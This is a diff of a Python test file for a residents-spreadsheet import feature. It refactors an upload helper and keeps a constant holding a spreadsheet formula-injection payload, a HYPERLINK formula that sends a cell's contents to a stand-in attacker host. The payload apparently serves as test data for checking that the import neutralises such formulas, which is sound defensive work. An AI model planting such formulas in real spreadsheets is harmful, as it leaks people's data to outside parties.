@@ -11,7 +11,12 @@ from pathlib import Path
 from openpyxl import load_workbook
 
 from tests.conftest import login
-from tests.residents.factories_residents import HouseholdFactory, ResidentFactory, id_for
+from tests.residents.factories_residents import (
+    HouseholdFactory,
+    ResidentFactory,
+    id_for,
+    post_canvass,
+)
 from tests.spreadsheets import write_csv
 from wushe.core.models import ActionLog, Job
 
@@ -24,15 +29,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'
 
 def _upload(client, street, tmp_path, rows):
     path = write_csv(tmp_path / "sheet.csv", rows)
-    with open(path, "rb") as handle:
-        response = client.post(
-            "/residents/import/",
-            {
-                "file": handle,
-                "area": street.community_a.code,
-                "legal_basis": "public_health_emergency",
-            },
-        )
+    response = post_canvass(client, path, street.community_a)
     assert response.status_code == 302
     return Job.objects.latest("pk")
 
